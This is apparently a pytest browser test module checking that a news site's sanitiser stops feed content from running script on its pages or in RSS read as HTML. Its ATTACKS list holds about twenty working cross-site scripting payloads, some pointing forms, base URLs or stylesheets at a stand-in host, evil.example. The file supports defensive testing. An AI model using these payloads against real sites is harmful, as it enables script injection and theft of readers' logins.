"""A sample of `benches.security.gate`: what feeds say, shown by our pages, runs in nobody's browser."""

import pytest

from articles.shipped import load
from benches.security.gate import CORPORA, harmless, opened, sanitised_values, stored
from benches.security.gate_browser import BrowserFindings, WatchedPage
from benches.security.gate_documents import documents, fuzzed, one_by_one, payloads

pytestmark = pytest.mark.browser

ATTACKS = [
    "<script>pwn()</script>Marché UEMOA",
    "<img src=x onerror=pwn()>Brent",
    "x' onmouseover='pwn()' y='",
    '" onfocus=pwn() autofocus x="',
    '<svg><a><set attributeName="href" to="javascript:pwn()"></set><text y=20>clic</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
    "<!--><img src=x onerror=pwn()>-->",
    '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
    "<form action='//evil.example/'><input name=login><button formaction='javascript:pwn()'>x</button></form>",
    "</title></head></main></article></div><textarea><plaintext>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "&#1;javascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    'https://a.example/"onmouseover="pwn()',
    "<a href='https://a.example/' style='position:fixed;inset:0'>x</a><base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'><link rel=stylesheet href=//evil.example/x.css>",
    " ';pwn();//",
]


@pytest.fixture
def watched(page):
    load.load_shipped(rulebook=False)
    watch = WatchedPage(page)
    harmless(watch)
    return watch


def faults(seen):
    return [sentence for one in seen for sentence in (one.ran + one.acting + one.asked)]


@pytest.mark.django_db
def test_no_attack_known_or_invented_runs_in_any_field_of_any_format(watched):
    known = payloads(CORPORA / "xss-sanitiser")[::300] if CORPORA.is_dir() else []
    invented = list(fuzzed(100, 11, ATTACKS))
    passed = sanitised_values([*documents([*ATTACKS, *known]), *one_by_one(invented)])
    seen = opened(watched, stored(passed.recombined(), ATTACKS))
    pages = [one for name, one in seen.items() if name.startswith("pages")]
    assert faults(pages) == []
    assert sum(one.swallowed for one in pages) == 0
    assert all(one.pages for one in pages)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>pwn()</script>",
        "<img src=x onerror=pwn()>",
        "<a href='javascript:pwn()'>x</a>",
        "<textarea>",
        "<link rel=stylesheet href=//evil.example/x.css>",
    ],
)
def test_the_watch_sees_what_gets_through(page, attack):
    seen, watch = BrowserFindings(), WatchedPage(page)
    watch.look(f"<!doctype html><body><article >{attack}</article><article ></article>", "", seen)
    assert seen.faults


@pytest.mark.django_db
def test_our_rss_harms_nobody_who_takes_its_descriptions_for_html(watched):
    seen = opened(watched, stored(sanitised_values(documents(ATTACKS)).recombined(), ["Le Journal"]))[
        "RSS read as HTML"
    ]
    assert faults([seen]) == []
    assert seen.swallowed == 0
